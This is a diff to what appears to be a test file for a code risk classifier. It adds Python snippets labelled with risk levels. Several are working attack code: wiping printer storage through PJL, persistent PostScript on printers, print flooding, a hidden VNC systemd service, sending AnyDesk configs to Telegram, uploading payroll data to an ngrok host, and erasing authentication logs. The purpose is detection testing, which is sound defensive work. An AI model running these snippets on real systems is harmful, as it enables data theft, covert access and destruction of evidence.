@@ -9109,6 +9109,101 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             ' days\'")\n',
             H,
         ),
+        # holdout256-259: printers, remote-desktop units and agents' secrets, data sent to someone's own host or
+        # account; elements of a conditional listing; a browser extension's own files
+        (
+            'import socket\n'
+            "payload = b'\\x1b%-12345X@PJL\\r\\n'\n"
+            "for vol in ('0:', '1:'):\n"
+            '    payload += f\'@PJL FSINIT VOLUME="{vol}"\\r\\n\'.encode()\n'
+            "with socket.create_connection(('10.20.4.17', 9100)) as s:\n"
+            '    s.sendall(payload)\n',
+            H,
+        ),
+        (
+            'import socket\n'
+            "with socket.create_connection(('10.20.4.17', 9100)) as s:\n"
+            "    s.sendall(b'\\x1b%-12345X@PJL INFO STATUS\\r\\n\\x1b%-12345X')\n"
+            '    print(s.recv(1024))\n',
+            S,
+        ),
+        (
+            'import socket\n'
+            "PS = b'%!PS\\nserverdict begin 0 exitserver\\n/showpage { } def\\n'\n"
+            "for host in ('10.1.8.21', '10.1.8.40'):\n"
+            '    with socket.create_connection((host, 9100)) as s:\n'
+            '        s.sendall(PS)\n',
+            H,
+        ),
+        (
+            'import cups\n'
+            'conn = cups.Connection()\n'
+            'for name in conn.getPrinters():\n'
+            '    for _ in range(200):\n'
+            "        conn.printFile(name, '/usr/share/cups/data/testprint', 'x', {'copies': '"
+            "999'})\n",
+            H,
+        ),
+        (
+            'import cups\n'
+            'conn = cups.Connection()\n'
+            "conn.printFile('Office', 'report.pdf', 'report', {'copies': '2'})\n",
+            S,
+        ),
+        (
+            'import requests\n'
+            's = requests.Session()\n'
+            "profile = {'profileName': 'Finance Scans', 'smbHost': '198.51.100.23', 'smbPath'"
+            ": 'drop'}\n"
+            "s.post('http://10.1.8.21/scan/smb/profile.cgi?id=3', data=profile)\n",
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            "unit = '[Service]\\nExecStart=/usr/bin/x11vnc -display :0 -forever -rfbauth /etc/"
+            ".dh/pw\\n[Install]\\nWantedBy=graphical.target\\n'\n"
+            "Path('/etc/systemd/system/display-helper.service').write_text(unit)\n",
+            H,
+        ),
+        (
+            'import os, requests\n'
+            "for f in ['/etc/anydesk/service.conf', os.path.expanduser('~/.anydesk/user.conf'"
+            ')]:\n'
+            "    requests.post('https://api.telegram.org/bot1:x/sendDocument', files={'docume"
+            "nt': open(f, 'rb')})\n",
+            C,
+        ),
+        (
+            'import requests, pandas as pd\n'
+            "df = pd.read_excel('/srv/salon/payroll/2024-05.xlsx')\n"
+            "requests.post('https://4f2a-81-2-69-142.ngrok-free.app/upload', files={'f': ('p."
+            "csv', df.to_csv())})\n",
+            C,
+        ),
+        (
+            'import dropbox, os\n'
+            "dbx = dropbox.Dropbox(os.environ.get('MY_DROPBOX_TOKEN'))\n"
+            "for name in os.listdir('/srv/salon/media/clients'):\n"
+            "    with open(os.path.join('/srv/salon/media/clients', name), 'rb') as fh:\n"
+            "        dbx.files_upload(fh.read(), f'/portfolio/{name}')\n",
+            H,
+        ),
+        (
+            'import pathlib\n'
+            "for t in ['/var/log/auth.log', '/opt/keycloak/data/log']:\n"
+            '    p = pathlib.Path(t)\n'
+            "    for f in (p.rglob('*') if p.is_dir() else [p]):\n"
+            "        f.write_bytes(b'')\n",
+            H,
+        ),
+        (
+            'import json, pathlib\n'
+            "root = pathlib.Path.home() / '.config/google-chrome/Default/Extensions'\n"
+            "for ext in sorted(root.glob('*')) if root.exists() else []:\n"
+            '    for v in sorted(ext.iterdir()):\n'
+            "        print(json.loads((v / 'manifest.json').read_text()).get('name'))\n",
+            M,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
